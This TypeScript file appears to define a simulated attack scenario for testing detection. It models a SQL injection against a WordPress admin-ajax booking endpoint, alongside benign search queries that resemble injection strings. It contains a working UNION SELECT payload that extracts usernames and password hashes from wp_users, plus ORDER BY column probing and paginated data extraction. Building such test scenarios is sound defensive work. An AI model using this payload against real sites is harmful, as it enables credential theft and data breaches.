import type { Story } from '../story.ts';
import { TOOLS } from '../scene.ts';

const TRICK = "1' UNION SELECT user_login,user_pass FROM wp_users-- -";

export const answeredInjection: Story = {
  name: 'answered-injection', title: 'SQL injection through admin-ajax that gives out the user table',
  items: ['injection.sqli', 'injection.sqli-ajax'], site: 'praxis-nord',
  attack(s) {
    const intruder = s.stranger(0, TOOLS.curl);
    const target = (trick: string) => `GET /wp-admin/admin-ajax.php?action=booking_slots&day=${encodeURIComponent(trick)}`;
    return [
      s.every(s.at('1:00'), '9s', 14, (at, i) => s.request(at, intruder, target(`1' ORDER BY ${i + 1}-- -`), { bytes: 2 })),
      s.every(s.at('1:05'), '20s', 5, (at, i) => s.request(at, intruder, target(`${TRICK} LIMIT ${i * 50},50`), { bytes: 18_220, reads: s.customers(50, 1 + i * 50) })),
    ];
  },
  lookAlike: {
    title: 'visitors search for a student union and read a translated page about SQL injection',
    events: (s) =>
      s.every(s.at('14:00'), '40s', 8, (at, i) => s.request(at, s.visitor(), `GET /?s=${['student+union+select+committee', 'drop+leaf+table', "where+is+o'neil+or+partner", 'order+by+phone+or+mail', 'select+all+from+one+brand', '1%2B1%3D2', 'sql+injection+erkl%C3%A4rt', 'union+select+%E2%80%93+was+ist+das'][i] ?? ''}${i > 5 ? '&lang=de&page_id=77' : ''}`, { bytes: 41_000 })),
  },
};
